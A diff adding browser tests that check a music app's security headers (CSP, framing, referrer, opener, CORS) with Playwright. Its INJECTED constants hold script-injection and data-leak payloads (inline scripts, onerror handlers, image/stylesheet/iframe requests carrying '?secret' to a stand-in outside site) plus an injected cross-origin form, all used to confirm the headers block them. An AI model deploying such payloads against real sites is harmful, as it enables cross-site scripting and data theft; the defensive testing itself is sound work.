@@ -1,0 +1,241 @@
+"""What the security headers keep other sites and injected scripts from, in a real browser.
+
+Each is tried without its header too, which somebody in between takes off: what is kept out then comes in.
+"""
+
+import re
+from collections.abc import Iterator
+from contextlib import contextmanager
+from urllib.parse import quote
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.servers import Server, serving
+from tests.web.bench import SCALE, bring, visit
+from tests.web.elsewhere import Site, altering, elsewhere
+
+SVG = f"/render?format=svg&abc={quote(SCALE)}"
+POLICY = "Content-Security-Policy"
+INJECTED = """
+<script>document.documentElement.dataset.inline = 1</script>
+<img src="data:," onerror="document.documentElement.dataset.handler = 1">
+<script src="{site}/script.js"></script>
+<img src="{site}/leak.png?secret">
+<link rel="stylesheet" href="{site}/leak.css?secret">
+<iframe src="{site}/leak.html?secret"></iframe>
+<iframe srcdoc="<script>parent.document.documentElement.dataset.framed = 1</script>"></iframe>
+"""
+INJECTED_SVG = """
+<script>document.documentElement.dataset.inline = 1</script>
+<image href="{site}/leak.png?secret" width="9" height="9"/>
+"""
+ASK = """async ([url, options]) => {
+  try {
+    const answer = await fetch(url, options);
+    return [answer.status, answer.headers.get("Lilt-Seed"), await answer.text()];
+  } catch (error) {
+    return error.name;
+  }
+}"""
+MAKE = {
+    "method": "POST",
+    "body": '{"seed": 5}',
+    "headers": {"Content-Type": "application/json", "Accept": "text/vnd.abc"},
+}
+
+
+@pytest.fixture
+def site() -> Iterator[Site]:
+    with elsewhere() as site:
+        site.pages["/"] = "<!doctype html><title>Another site</title>"
+        yield site
+
+
+@contextmanager
+def opened(browser: Browser, url: str) -> Iterator[Page]:
+    """A page in a browser that knows nothing."""
+    context = browser.new_context(base_url=url)
+    yield context.new_page()
+    context.close()
+
+
+def left_by_scripts(page: Page, path: str) -> set[str]:
+    """What has run in a document, once all that it asks for has come or been refused."""
+    page.goto(path, wait_until="networkidle")
+    left: dict[str, str] = page.evaluate("() => ({ ...document.documentElement.dataset })")
+    return {"inline", "handler", "elsewhere", "framed"} & left.keys()
+
+
+@pytest.mark.parametrize("path", ["/", "/embed", "/docs"])
+def test_what_is_injected_into_a_page_does_not_run_and_reaches_nobody(
+    browser: Browser, server: Server, site: Site, path: str
+) -> None:
+    injected = INJECTED.format(site=site.url)
+    site.pages["/leak.html"] = "<p>elsewhere</p>"
+    with altering(server.url, injected=injected) as url, opened(browser, url) as page:
+        assert left_by_scripts(page, path) == set()
+        assert site.asked == []
+    with altering(server.url, injected=injected, without=POLICY) as url, opened(browser, url) as page:
+        assert left_by_scripts(page, path) == {"inline", "handler", "elsewhere", "framed"}
+        leaks = {asked.partition("?")[0] for asked, _ in site.asked}
+        assert leaks >= {"/script.js", "/leak.png", "/leak.css", "/leak.html"}
+
+
+def test_what_is_injected_into_a_score_does_not_run_and_reaches_nobody(
+    browser: Browser, server: Server, site: Site
+) -> None:
+    injected = INJECTED_SVG.format(site=site.url)
+    with altering(server.url, injected=injected) as url, opened(browser, url) as page:
+        assert left_by_scripts(page, SVG) == set()
+        assert site.asked == []
+    with altering(server.url, injected=injected, without=POLICY) as url, opened(browser, url) as page:
+        assert left_by_scripts(page, SVG) == {"inline"}
+        assert [asked for asked, _ in site.asked] == ["/leak.png?secret"]
+
+
+def test_an_injected_form_sends_nothing(browser: Browser, server: Server, site: Site) -> None:
+    injected = f'<form action="{site.url}/"><input name="a"><button id="injected">Go</button></form>'
+    press = "(button) => button.click()"
+    with altering(server.url, injected=injected) as url, opened(browser, url) as page:
+        page.goto("/")
+        with page.expect_console_message(lambda message: "form-action" in message.text):
+            page.locator("#injected").evaluate(press)
+        assert site.asked == []
+    with altering(server.url, injected=injected, without=POLICY) as url, opened(browser, url) as page:
+        page.goto("/")
+        with page.expect_navigation(url=f"{site.url}/?a="):
+            page.locator("#injected").evaluate(press)
+
+
+def seen_in_a_frame(page: Page, site: Site, origin: str, url: str) -> str:
+    """What another site's page shows of us."""
+    site.pages["/frames"] = f'<iframe src="{url}" width="900" height="700"></iframe>'
+    page.goto(f"{origin}/frames", wait_until="networkidle")
+    (frame,) = page.main_frame.child_frames
+    text: str = frame.evaluate("() => document.body?.innerText ?? ''")
+    return text.lower()
+
+
+@pytest.mark.parametrize(("path", "word"), [("/", "rhythm"), ("/docs", "generate"), ("/models", "vocab")])
+def test_other_sites_cannot_frame_what_is_not_for_it(
+    browser: Browser, server: Server, site: Site, path: str, word: str
+) -> None:
+    with opened(browser, server.url) as page:
+        for origin in (site.url, site.neighbour_url):
+            with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
+                assert word not in seen_in_a_frame(page, site, origin, server.url + path)
+    with altering(server.url, without=POLICY) as url, opened(browser, url) as page:
+        assert word in seen_in_a_frame(page, site, site.neighbour_url, url + path)
+
+
+def test_another_site_shows_and_plays_a_tune_in_a_frame(browser: Browser, server: Server, site: Site) -> None:
+    with opened(browser, server.url) as page:
+        visit(page)
+        bring(page, SCALE)
+        page.get_by_role("button", name="Share", exact=True).click()
+        expect(page.get_by_label("Link to this tune")).to_have_value(re.compile("#t="))
+        link = page.get_by_label("Link to this tune").input_value().replace("/#", "/embed#")
+        site.pages["/tune"] = f'<iframe src="{link}" width="900" height="700"></iframe>'
+        page.goto(f"{site.url}/tune")
+        frame = page.frame_locator("iframe")
+        expect(frame.locator("h1")).to_have_text("Scale")
+        frame.locator("#play").click()
+        (inner,) = page.main_frame.child_frames
+        inner.wait_for_function("() => document.querySelector('#sound').currentTime > 0.3")
+        look = "() => { try { return window.frames[0].document.title; } catch (error) { return error.name; } }"
+        assert page.evaluate(look) == "SecurityError"
+
+
+@pytest.mark.parametrize("element", ["iframe src", "object data", "embed src"])
+def test_another_site_cannot_make_us_work_by_frames(browser: Browser, server: Server, site: Site, element: str) -> None:
+    lines = len(server.log)
+    site.pages["/busy"] = f"<{element}='{server.url}{SVG}'></{element.split()[0]}>"
+    with opened(browser, server.url) as page:
+        page.goto(f"{site.url}/busy", wait_until="networkidle")
+    answers = [line for line in server.log[lines:] if '"status"' in line]
+    assert len(answers) == 1
+    assert '"status": 403' in answers[0]
+
+
+def test_what_is_no_script_does_not_run_as_one(browser: Browser, server: Server) -> None:
+    load = """(path) => new Promise((resolve) => {
+      const script = document.createElement("script");
+      script.onload = () => resolve("run");
+      script.onerror = () => resolve("refused");
+      script.src = path;
+      document.body.append(script);
+    })"""
+    with opened(browser, server.url) as page:
+        page.goto("/")
+        assert page.evaluate(load, "/js/abc.js") == "run"
+        assert [page.evaluate(load, path) for path in ("/style.css", "/models", "/openapi.json")] == ["refused"] * 3
+    with altering(server.url, without="X-Content-Type-Options") as url, opened(browser, url) as page:
+        page.goto("/")
+        assert page.evaluate(load, "/style.css") == "run"
+
+
+def test_who_is_gone_to_does_not_learn_from_where(browser: Browser, server: Server, site: Site) -> None:
+    follow = """(url) => { const link = document.createElement("a"); link.href = url; link.click(); }"""
+
+    def told(url: str) -> str | None:
+        with opened(browser, url) as page:
+            page.goto("/docs")
+            with page.expect_navigation(url=f"{site.url}/"):
+                page.evaluate(follow, f"{site.url}/")
+            assert page.title() == "Another site"
+        return next(headers["Referer"] for path, headers in reversed(site.asked) if path == "/")
+
+    assert told(server.url) is None
+    with altering(server.url, without="Referrer-Policy") as url:
+        assert told(url) == f"{url}/"
+
+
+def test_who_opens_a_window_on_us_has_no_hold_on_it(browser: Browser, server: Server, site: Site) -> None:
+    def is_held(url: str) -> bool:
+        with opened(browser, url) as page:
+            page.goto(f"{site.url}/")
+            with page.expect_popup() as window:
+                page.evaluate("(url) => { window.opened = window.open(url); }", f"{url}/docs")
+            window.value.wait_for_load_state()
+            assert window.value.title() != ""
+            held: bool = window.value.evaluate("() => window.opener !== null")
+            assert page.evaluate("() => window.opened.closed") is not held
+            return held
+
+    assert not is_held(server.url)
+    with altering(server.url, without="Cross-Origin-Opener-Policy") as url:
+        assert is_held(url)
+
+
+@pytest.mark.parametrize("origin", ["url", "neighbour_url"])
+def test_another_sites_page_reads_nothing_and_makes_nothing(
+    browser: Browser, server: Server, site: Site, origin: str
+) -> None:
+    lines = len(server.log)
+    with opened(browser, server.url) as page:
+        page.goto(f"{getattr(site, origin)}/")
+        assert page.evaluate(ASK, [f"{server.url}/generate", MAKE]) == "TypeError"
+        assert page.evaluate(ASK, [f"{server.url}/models", {}]) == "TypeError"
+        assert page.evaluate(ASK, [f"{server.url}/models", {"mode": "no-cors"}]) == "TypeError"
+        shown = """(url) => new Promise((resolve) => {
+          const image = new Image();
+          image.onload = () => resolve(true);
+          image.onerror = () => resolve(false);
+          image.src = url;
+        })"""
+        assert page.evaluate(shown, f"{server.url}/icon.svg") is False
+        page.goto(f"{server.url}/docs")
+        assert page.evaluate(shown, f"{server.url}/icon.svg") is True
+    assert not any('"POST"' in line and "/generate" in line for line in server.log[lines:])
+
+
+def test_a_site_that_is_named_may_ask_and_no_other(browser: Browser, site: Site) -> None:
+    with serving(cors_origins=site.url) as server, opened(browser, server.url) as page:
+        page.goto(f"{site.url}/")
+        status, seed, abc = page.evaluate(ASK, [f"{server.url}/generate", MAKE])
+        assert (status, seed) == (200, "5")
+        assert abc.startswith("X:1\n")
+        page.goto(f"{site.neighbour_url}/")
+        assert page.evaluate(ASK, [f"{server.url}/generate", MAKE]) == "TypeError"
+        assert page.evaluate(ASK, [f"{server.url}/models", {}]) == "TypeError"
